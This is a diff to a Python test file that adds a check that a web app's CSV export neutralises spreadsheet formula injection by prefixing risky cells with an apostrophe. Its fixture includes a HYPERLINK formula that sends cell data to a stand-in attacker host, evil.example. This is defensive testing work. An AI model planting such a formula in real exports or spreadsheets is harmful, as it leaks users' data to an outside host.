@@ -388,3 +388,27 @@ def test_queued_uploads_are_removed_when_the_server_stops(monkeypatch, own_tempd
     queue.shutdown()
     app.state.store.close()
     assert set(Path(tempfile.gettempdir()).glob("crosswire-upload-*")) == before
+
+
+def test_the_web_csv_download_never_hands_a_spreadsheet_a_formula(sqlite_url):
+    # Issue #18 item 6, the web's CSV export (the dashboard's CSV button): a title or outlet that a
+    # spreadsheet would run as a formula is written with an apostrophe in front.
+    import csv
+    import io
+
+    from crosswire.model import Article
+    from crosswire.store import open_store
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    with open_store(sqlite_url) as store:
+        store.save_articles(
+            [Article(text=BODY + "Formula.", title=formula, outlet="@Outlet", authors=["-me"])]
+        )
+    with client_for(sqlite_url) as client:
+        response = client.get("/export/articles.csv")
+    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    [row] = [r for r in rows if formula in r["title"]]
+    assert row["title"] == "'" + formula and row["outlet"] == "'@Outlet" and row["authors"] == "'-me"
+    cells = [value for r in rows for value in r.values()]
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells if value)
